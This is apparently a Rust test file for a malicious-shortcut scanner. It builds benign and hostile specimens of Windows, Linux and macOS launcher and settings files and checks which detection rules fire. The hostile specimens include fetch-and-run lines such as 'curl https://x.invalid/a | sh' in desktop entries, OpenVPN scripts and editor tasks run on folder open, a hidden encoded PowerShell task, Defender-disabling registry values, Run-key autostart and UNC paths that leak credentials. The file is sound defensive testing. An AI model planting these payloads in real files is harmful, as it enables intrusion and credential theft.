use crate::forge::text::{job, utf16};
use crate::forge::{Case, Example, Specimen, case, fired, type_of};
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[
    ("url", || b"[InternetShortcut]\r\nURL=https://example.invalid/\r\n".to_vec()),
    ("desktop-entry", || b"[Desktop Entry]\nType=Application\nName=Editor\nExec=editor %f\n".to_vec()),
    ("reg", || {
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Editor]\r\n\"Size\"=dword:00000001\r\n".to_vec()
    }),
    ("inf", || b"; driver\r\n[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Printer\r\n".to_vec()),
    ("scf", || b"[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".to_vec()),
    ("theme", || {
        b"[Theme]\r\nDisplayName=Sea\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\sea.jpg\r\n".to_vec()
    }),
    ("desktop-ini", || b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\shell32.dll,4\r\n".to_vec()),
    ("autorun", || b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe\r\n".to_vec()),
    ("rdp", || b"screen mode id:i:2\r\nfull address:s:host.invalid\r\n".to_vec()),
    ("iqy", || b"WEB\r\n1\r\nhttps://example.invalid/table\r\n\r\n".to_vec()),
    ("slk", || b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n".to_vec()),
    ("ovpn", || b"client\ndev tun\nremote vpn.invalid 1194\nca ca.crt\n".to_vec()),
    ("clickonce", || {
        b"<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"><x/></deployment><dependency><dependentAssembly/></dependency></asmv1:assembly>".to_vec()
    }),
    ("appinstaller", || {
        b"<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\"></AppInstaller>".to_vec()
    }),
    ("jnlp", || b"<?xml version=\"1.0\"?><jnlp spec=\"1.0+\"></jnlp>".to_vec()),
    ("library-ms", || {
        b"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><url>C:\\Users</url></libraryDescription>".to_vec()
    }),
    ("searchconnector-ms", || {
        b"<?xml version=\"1.0\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"></searchConnectorDescription>".to_vec()
    }),
    ("search-ms", || b"<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"></persistedQuery>".to_vec()),
    ("settingcontent-ms", || {
        b"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><DeepLink>control.cpl</DeepLink></SearchableContent></PCSettings>".to_vec()
    }),
    ("msc", || b"<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"></MMC_ConsoleFile>".to_vec()),
    ("contact", || {
        b"<?xml version=\"1.0\"?><c:contact xmlns:c=\"http://schemas.microsoft.com/Contact\"></c:contact>".to_vec()
    }),
    ("webloc", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>https://x.invalid</string></dict></plist>".to_vec()
    }),
    ("terminal", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>CommandString</key><string>top</string></dict></plist>".to_vec()
    }),
    ("workflow", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>AMApplicationBuild</key><string>1</string></dict></plist>".to_vec()
    }),
    ("mobileconfig", || {
        b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>PayloadContent</key><array/></dict></plist>".to_vec()
    }),
    ("task", || {
        let root = "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"/>";
        utf16(root, true)
    }),
    ("appref-ms", || {
        let name = "a.application, Culture=neutral, PublicKeyToken=0, processorArchitecture=msil";
        utf16(&format!("http://x.invalid/a.application#{name}"), true)
    }),
    ("job", || job("notepad.exe")),
    ("diagcfg", || xml(DIAGNOSIS, "<Execution><Package Path=\"C:\\Windows\\diagnostics\\\"/></Execution>")),
    ("wsb", || xml("Configuration", "<LogonCommand><Command>notepad.exe</Command></LogonCommand>")),
    ("editor-tasks", || editor("npm run build").bytes),
];

fn url(lines: &str) -> Case {
    case("link.url", format!("[InternetShortcut]\r\n{lines}\r\n"))
}

fn reg(lines: &str) -> Case {
    case("a.reg", utf16(&format!("Windows Registry Editor Version 5.00\r\n\r\n{lines}\r\n"), true))
}

fn ini(name: &str, lines: &str) -> Case {
    case(name, lines.replace('\n', "\r\n"))
}

/// An XML file with this root element.
fn xml(root: &str, inner: &str) -> Vec<u8> {
    let name = root.split(' ').next().unwrap();
    format!("<?xml version=\"1.0\"?>\r\n<{root}>\r\n{inner}\r\n</{name}>\r\n").into_bytes()
}

const DIAGNOSIS: &str = "PackageConfiguration xmlns=\"http://schemas.microsoft.com/dcm/configuration/2008\"";
const TASK: &str = "Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"";
const CONSOLE: &str = "MMC_ConsoleFile ConsoleVersion=\"3.0\"";

fn console(text: &str) -> Case {
    let table = format!(
        "<StringTables><StringTable><Strings><String ID=\"1\">{text}</String></Strings></StringTable></StringTables>"
    );
    case("a.msc", xml(CONSOLE, &table))
}

fn task(command: &str, arguments: &str) -> Case {
    let exec = format!("<Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec>");
    let text = String::from_utf8(xml(TASK, &format!("<Triggers><LogonTrigger/></Triggers><Actions>{exec}</Actions>")))
        .unwrap();
    case("a.xml", utf16(&text, true))
}

fn rdp(lines: &str) -> Case {
    case("a.rdp", utf16(&format!("screen mode id:i:2\r\n{lines}\r\n"), true))
}

fn plist(key: &str, value: &str) -> Vec<u8> {
    xml("plist version=\"1.0\"", &format!("<dict><key>{key}</key><string>{value}</string></dict>"))
}

fn profile(kind: &str) -> Case {
    let payload =
        format!("<key>PayloadContent</key><array><dict><key>PayloadType</key><string>{kind}</string></dict></array>");
    case("a.mobileconfig", xml("plist version=\"1.0\"", &format!("<dict>{payload}</dict>")))
}

fn editor(command: &str) -> Case {
    let text = format!(
        "{{\n  // of this folder\n  \"version\": \"2.0.0\",\n  \"tasks\": [{{\n    \"label\": \"build\",\n    \"type\": \"shell\",\n    \
         \"command\": \"{command}\",\n    \"runOptions\": {{ \"runOn\": \"folderOpen\" }}\n  }}]\n}}\n"
    );
    case("tasks.json", text)
}

fn starter(name: &str, command: &str) -> Case {
    case("a.desktop", format!("[Desktop Entry]\nType=Application\nName={name}\nIcon=editor\nExec={command}\n"))
}

fn fires(case: &Case, rule: &str) -> bool {
    fired(&case.examine()).contains(&rule)
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "shortcuts.starts-program",
        fires: || task("C:\\Tools\\backup.exe", "/daily"),
        silent: || case("a.xml", xml(TASK, "<Triggers/><Actions/>")),
    },
    Example {
        rule: "shortcuts.switches-off-protection",
        fires: || {
            let key = "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]";
            reg(&format!("{key}\r\n\"DisableAntiSpyware\"=dword:00000001"))
        },
        silent: || {
            let key = "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]";
            reg(&format!("{key}\r\n\"DisableAntiSpyware\"=dword:00000000"))
        },
    },
    Example {
        rule: "shortcuts.link-to-program",
        fires: || url("URL=https://x.invalid/files/setup.exe?id=1"),
        silent: || url("URL=https://x.invalid/files/setup.html"),
    },
    Example {
        rule: "shortcuts.web-installer",
        fires: || case("a.jnlp", xml("jnlp spec=\"1.0+\" codebase=\"https://x.invalid/\"", "<jar href=\"a.jar\"/>")),
        silent: || case("a.jnlp", xml("jnlp spec=\"1.0+\"", "<jar href=\"a.jar\"/>")),
    },
    Example {
        rule: "shortcuts.shares-drives",
        fires: || rdp("full address:s:host.lan\r\ndrivestoredirect:s:*"),
        silent: || rdp("full address:s:host.lan\r\ndrivestoredirect:s:"),
    },
    Example {
        rule: "shortcuts.rogue-desktop",
        fires: || rdp("full address:s:198.51.100.7\r\nremoteapplicationmode:i:1\r\ndrivestoredirect:s:*"),
        silent: || rdp("full address:s:apps.corp\r\nremoteapplicationmode:i:1\r\ndrivestoredirect:s:*"),
    },
    Example {
        rule: "shortcuts.web-query",
        fires: || case("a.iqy", "WEB\r\n1\r\nhttps://x.invalid/table\r\n"),
        silent: || case("a.txt", "WEB\r\nis a word for\r\nhttps://x.invalid/table\r\n"),
    },
    Example {
        rule: "shortcuts.console-script",
        fires: || console("res://apds.dll/redirect.html?target=javascript:eval(0)"),
        silent: || console("Console Root"),
    },
    Example {
        rule: "shortcuts.console-page",
        fires: || console("https://x.invalid/"),
        silent: || console("Console Root"),
    },
    Example {
        rule: "shortcuts.dressed-up",
        fires: || starter("Invoice.pdf", "sh -c \"cp a b\""),
        silent: || starter("Editor", "sh -c \"cp a b\""),
    },
    Example {
        rule: "shortcuts.device-control",
        fires: || profile("com.apple.mdm"),
        silent: || profile("com.apple.font"),
    },
    Example {
        rule: "shortcuts.editor-task",
        fires: || editor("npm run build"),
        silent: || {
            case("tasks.json", "{\n \"version\": \"2.0.0\",\n \"tasks\": [{ \"command\": \"npm run build\" }]\n}\n")
        },
    },
    Example {
        rule: "shortcuts.other-computer",
        fires: || url("URL=https://x.invalid/\r\nIconFile=\\\\10.0.0.1\\share\\a.ico"),
        silent: || url("URL=https://x.invalid/\r\nIconFile=C:\\Windows\\system32\\url.dll"),
    },
    Example {
        rule: "shortcuts.dangerous-link",
        fires: || url("URL=search-ms:query=a&crumb=location:x"),
        silent: || url("URL=steam://rungameid/400"),
    },
    Example {
        rule: "shortcuts.runs-command",
        fires: || {
            case("a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"curl https://x.invalid/a | sh\"\n")
        },
        silent: || case("a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"exec editor --curl %f\"\n"),
    },
    Example {
        rule: "shortcuts.autostart",
        fires: || reg("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"a.exe\""),
        silent: || reg("[HKEY_CURRENT_USER\\Software\\Editor\\Running]\r\n\"a\"=\"b\""),
    },
    Example {
        rule: "shortcuts.connection-script",
        fires: || case("a.ovpn", "client\ndev tun\nremote x.invalid 1\nup ./a.sh\n"),
        silent: || case("a.ovpn", "client\ndev tun\nremote x.invalid 1\n# up ./a.sh\n"),
    },
];

#[test]
fn an_honest_internet_shortcut_is_suspicious_and_no_more() {
    let report = url("URL=https://example.invalid/").examine();
    assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{:?}", fired(&report));
}

#[test]
fn a_link_to_a_file_of_another_computer_is_dangerous_in_every_spelling() {
    let fires = |place: &str| fired(&url(&format!("URL={place}")).examine()).contains(&"shortcuts.other-computer");
    for place in
        ["file://10.0.0.1/a/b.exe", "file:////server.invalid/a", "\\\\server.invalid@80\\a", "//server.invalid/a"]
    {
        assert!(fires(place), "{place}");
    }
    assert!(fires("file://localhost.invalid/a"));
    for place in [
        "\\\\127.0.0.1\\a",
        "file://localhost/a",
        "file:///C:/a/b.html",
        "file:///home/a/b.html",
        "file://C:/a/b.html",
        "https://x.invalid/",
    ] {
        assert!(!fires(place), "{place}");
    }
}

#[test]
fn a_sheet_in_text_form_that_starts_a_program_is_dangerous() {
    let report = case("a.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC(\"x\")\nE\n").examine();
    assert_eq!(type_of(&report), "slk");
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn a_text_that_speaks_of_shortcuts_is_none() {
    let text = "An internet shortcut begins with the line\n\n    \"[InternetShortcut]\"\n\nand then its URL.\n";
    assert_eq!(type_of(&case("a.txt", text).examine()), "text");
}

#[test]
fn a_task_that_starts_a_script_host_is_dangerous() {
    assert!(fired(&case("a.job", job("C:\\Windows\\mshta.exe")).examine()).contains(&"shortcuts.runs-command"));
    assert!(!fired(&case("a.job", job("C:\\Windows\\notepad.exe")).examine()).contains(&"shortcuts.runs-command"));
}

#[test]
fn settings_are_read_as_windows_reads_them() {
    use sheepdip::parse::ini::entries;
    let text = "; a=1\r\n[One]\r\n Key = \"a b\" \r\n[two\r\nKEY='c'\rno value\r\n";
    let all: Vec<_> = entries(text).map(|e| (e.section, e.key, e.value)).collect();
    assert_eq!(all, [("One", "Key", "a b"), ("two", "KEY", "c"), ("two", "", "no value")]);
    for entry in entries(text) {
        assert!(text[entry.at..].starts_with(entry.line));
    }
}

#[test]
fn an_internet_shortcut_is_read_behind_its_tricks() {
    for lines in [
        "url=\"file://10.0.0.1/a/b.exe\"",
        "URL=https://x.invalid/\r\nURL=file://10.0.0.1/a",
        "WorkingDirectory=\\\\10.0.0.1@80\\DavWWWRoot\\a\r\nURL=C:\\Windows\\a.exe",
        "URL=file:%5C%5C10.0.0.1%5Ca",
        "URL=https://x.invalid/\r\n[Other]\r\nIconFile=@\\\\10.0.0.1\\a.dll,-1",
    ] {
        assert!(fires(&url(lines), "shortcuts.other-computer"), "{lines}");
    }
    let remarks = "; remark\r\n".repeat(100) + "[InternetShortcut]\r\nURL=search-ms:query=a\r\n";
    assert!(fires(&case("a.url", remarks), "shortcuts.dangerous-link"));
    assert!(fires(&url("URL=C:\\Windows\\System32\\cmd.exe"), "shortcuts.dangerous-link"));
}

#[test]
fn the_settings_of_a_disk_that_start_from_its_waste_basket_are_dangerous() {
    let worm =
        ini("autorun.inf", "[AutoRun]\nopen=RECYCLER\\S-1-5\\a.exe\nshell\\open\\command=RECYCLER\\S-1-5\\a.exe\n");
    assert_eq!(worm.examine().judgement.verdict, Verdict::Dangerous);
    let honest =
        ini("autorun.inf", "[autorun]\nopen=setup.exe /auto\nicon=setup.exe,0\nshell\\install\\command=setup.exe\n");
    assert_eq!(honest.examine().judgement.verdict, Verdict::Suspicious);
}

#[test]
fn a_theme_that_fetches_or_starts_something_is_dangerous() {
    let theme = |line: &str| {
        ini("a.theme", &format!("[Theme]\nDisplayName=Sea\n[Control Panel\\Desktop]\nWallpaper=a.jpg\n{line}\n"))
    };
    assert!(fires(&theme("[VisualStyles]\nPath=\\\\10.0.0.1\\a\\b.msstyles"), "shortcuts.other-computer"));
    assert!(fires(&theme("[boot]\nSCRNSAVE.EXE=C:\\Users\\a\\b.scr"), "shortcuts.autostart"));
    assert!(!fires(&theme("[boot]\nSCRNSAVE.EXE=%WinDir%\\system32\\Bubbles.scr"), "shortcuts.autostart"));
}

#[test]
fn values_of_the_registry_are_read_in_every_form() {
    let winlogon = "[HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]";
    assert!(fires(&reg(&format!("{winlogon}\r\n\"Shell\"=\"explorer.exe, a.exe\"")), "shortcuts.autostart"));
    assert!(!fires(&reg(&format!("{winlogon}\r\n\"Shell\"=\"explorer.exe\"")), "shortcuts.autostart"));
    let run = "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]";
    assert!(fires(
        &reg(&format!("{run}\r\n\"a\"=hex(2):61,00,2e,00,\\\r\n  65,00,78,00,65,00,00,00")),
        "shortcuts.autostart"
    ));
    assert!(!fires(&reg(&format!("{run}\r\n\"a\"=-")), "shortcuts.autostart"));
    assert!(!fires(&reg(&format!("[-{}\r\n\"a\"=\"b\"", &run[1..])), "shortcuts.autostart"));
    let class = "[HKEY_CLASSES_ROOT\\Editor.Text\\shell\\open\\command]";
    let open = |command: &str| reg(&format!("{class}\r\n@=\"{command}\""));
    assert_eq!(
        open("C:\\\\Program Files\\\\Editor\\\\editor.exe \\\"%1\\\"").examine().judgement.verdict,
        Verdict::Suspicious
    );
    assert!(fires(&open("mshta.exe http://x.invalid/a"), "shortcuts.runs-command"));
    let catalog =
        reg("[HKEY_CURRENT_USER\\Software\\Office\\WEF\\TrustedCatalogs]\r\n\"Url\"=\"\\\\\\\\server\\\\share\"");
    assert_eq!(catalog.examine().judgement.verdict, Verdict::Suspicious);
    assert!(fires(&reg("[HKEY_CLASSES_ROOT\\exefile\\shell\\open\\command]\r\n@=\"a.exe\""), "shortcuts.autostart"));
}

#[test]
fn a_setup_script_is_dangerous_by_what_it_installs() {
    let head = "[version]\nSignature=$chicago$\nAdvancedINF=2.5\n\n[DefaultInstall]\n";
    let web = ini(
        "a.inf",
        &format!(
            "{head}UnRegisterOCXs=Odd\n[Odd]\n%11%\\scrobj.dll,NI,%Place%\n[Strings]\nPlace=\"http://x.invalid/a\"\n"
        ),
    );
    assert!(fires(&web, "shortcuts.runs-command"));
    let command = ini(
        "a.inf",
        &format!("{head}RunPreSetupCommands=Odd:1\n[Odd]\npowershell %Say%\n[Strings]\nSay=\"-w hidden -c a\"\n"),
    );
    assert!(fires(&command, "shortcuts.runs-command"));
    let driver = ini(
        "a.inf",
        "[Version]\nSignature=\"$Windows NT$\"\nClass=Printer\n[Manufacturer]\n%Maker%=Models\n[Models]\n\"A\"=Install,USB\n[Install]\nCopyFiles=Files\nAddReg=Values\n[Values]\nHKR,,Url,,\"http://x.invalid/\"\n[Strings]\nMaker=\"A (http://x.invalid)\"\n",
    );
    assert_eq!(driver.examine().judgement.verdict, Verdict::Suspicious);
}

#[test]
fn folders_and_searches_that_lead_to_another_computer_are_dangerous() {
    let library = "libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"";
    for place in
        ["\\\\10.0.0.1\\share", "http://x.invalid/dav", "&#92;\\10.0.0.1\\share", "<![CDATA[\\\\10.0.0.1\\a]]>"]
    {
        let list = format!(
            "<searchConnectorDescriptionList><x><simpleLocation>\n<url>{place}</url></simpleLocation></x></searchConnectorDescriptionList>"
        );
        assert!(fires(&case("a.library-ms", xml(library, &list)), "shortcuts.other-computer"), "{place}");
    }
    let home = "<url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url>";
    assert_eq!(case("a.library-ms", xml(library, home)).examine().judgement.verdict, Verdict::Suspicious);
    let search = "<query><kindList/><scope><include path=\"\\\\10.0.0.1\\a\" attributes=\"0\"/></scope></query>";
    assert!(fires(&case("a.search-ms", xml("persistedQuery version=\"1.0\"", search)), "shortcuts.other-computer"));
    let package = "<Execution><Package Path=\"\\\\x.invalid@ssl\\DavWWWRoot\\package\\\"/></Execution>";
    assert!(fires(&case("a.diagcfg", xml(DIAGNOSIS, package)), "shortcuts.other-computer"));
}

#[test]
fn a_console_whose_task_starts_a_command_is_dangerous() {
    let pad = |command: &str, params: &str| {
        let task = format!(
            "<Task Type=\"CommandLine\" Command=\"{command}\"><CommandLine Directory=\"\" WindowState=\"Minimized\" Params=\"{params}\"/></Task>"
        );
        case(
            "a.msc",
            xml(
                CONSOLE,
                &format!("<ConsoleTaskpads><ConsoleTaskpad><Tasks>{task}</Tasks></ConsoleTaskpad></ConsoleTaskpads>"),
            ),
        )
    };
    assert!(fires(&pad("cmd.exe", "/c curl http://x.invalid/a -o a.exe &amp; a.exe"), "shortcuts.runs-command"));
    assert!(fires(&pad("C:\\Windows\\notepad.exe", "a.txt"), "shortcuts.starts-program"));
}

#[test]
fn what_a_settings_shortcut_starts_is_told() {
    let setting = |link: &str| {
        let inner = format!(
            "<SearchableContent><ApplicationInformation><DeepLink>{link}</DeepLink></ApplicationInformation></SearchableContent>"
        );
        case("a.settingcontent-ms", xml("PCSettings", &inner))
    };
    assert!(fires(&setting("%windir%\\system32\\cmd.exe /c a.bat"), "shortcuts.runs-command"));
    assert_eq!(setting("%windir%\\system32\\control.exe /name a").examine().judgement.verdict, Verdict::Suspicious);
}

#[test]
fn a_task_is_dangerous_by_its_command() {
    assert!(fires(&task("powershell.exe", "-w hidden -enc SQBFAFgAIAAkAGEAIABiACAAYwA="), "shortcuts.runs-command"));
    assert!(!fires(&task("C:\\Tools\\backup.exe", "/daily"), "shortcuts.runs-command"));
}

#[test]
fn starters_of_a_mac_are_read_as_lists() {
    assert!(fires(
        &case("a.terminal", plist("CommandString", "curl https://x.invalid/a | sh")),
        "shortcuts.runs-command"
    ));
    assert!(fires(&case("a.terminal", plist("CommandString", "top")), "shortcuts.starts-program"));
    assert!(fires(&case("a.inetloc", plist("URL", "FiLe:////////x.invalid/a.app")), "shortcuts.other-computer"));
    assert!(!fires(&case("a.webloc", plist("URL", "https://x.invalid/")), "shortcuts.other-computer"));
}

#[test]
fn a_tunnel_that_fetches_a_script_is_dangerous() {
    let tunnel =
        |line: &str| case("a.ovpn", format!("client\ndev tun\nremote x.invalid 1\nscript-security 2\n{line}\n"));
    assert!(fires(&tunnel("up \"/bin/bash -c 'curl https://x.invalid/a | bash &'\""), "shortcuts.runs-command"));
    assert!(fires(&tunnel("route-up\ta.sh"), "shortcuts.connection-script"));
    assert!(!fires(&tunnel("up /etc/openvpn/update-resolv-conf"), "shortcuts.connection-script"));
}

#[test]
fn a_task_of_an_editor_that_fetches_a_script_is_dangerous() {
    assert!(fires(&editor("curl -s https://x.invalid/a | bash"), "shortcuts.runs-command"));
    assert_eq!(editor("npm run build").examine().judgement.verdict, Verdict::Clean);
}

#[test]
fn broken_settings_in_xml_are_never_complete() {
    let whole = xml(CONSOLE, "<StringTables><String ID=\"1\">Root</String></StringTables>");
    for length in (60..whole.len() - 4).step_by(5) {
        assert!(!case("a.msc", &whole[..length]).examine().judgement.complete, "cut at {length}");
    }
}

#[test]
fn places_in_wide_text_are_told_in_bytes() {
    let report =
        reg("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"a.exe\"").examine();
    let finding = report.findings.iter().find(|f| f.rule.id == "shortcuts.autostart").unwrap();
    let text = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n";
    assert_eq!(finding.span.unwrap().offset, 2 + 2 * text.len() as u64);
}

#[test]
fn a_sandbox_that_fetches_something_at_its_start_is_dangerous() {
    let sandbox = |command: &str| {
        case("a.wsb", xml("Configuration", &format!("<LogonCommand><Command>{command}</Command></LogonCommand>")))
    };
    assert!(fires(&sandbox("powershell.exe -c &quot;iwr https://x.invalid/a&quot;"), "shortcuts.runs-command"));
    assert!(!fires(&sandbox("notepad.exe"), "shortcuts.runs-command"));
}

#[test]
fn a_tunnel_may_be_named_as_settings_are() {
    let report = case("client.conf", "client\ndev tun\nremote vpn.invalid 1194\nca ca.crt\n").examine();
    assert_eq!(fired(&report), ["nature.shortcut"]);
}

#[test]
fn a_text_that_a_settings_file_names_by_itself_is_a_gap() {
    let text = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><MMC_ConsoleFile><String>&b;</String></MMC_ConsoleFile>";
    assert!(!case("a.msc", text).examine().judgement.complete);
}

#[test]
fn a_command_of_the_explorer_needs_no_more_than_an_icon() {
    assert!(fires(&ini("a.scf", "[Shell]\nIconFile=\\\\10.0.0.1\\a.ico\n"), "shortcuts.other-computer"));
}
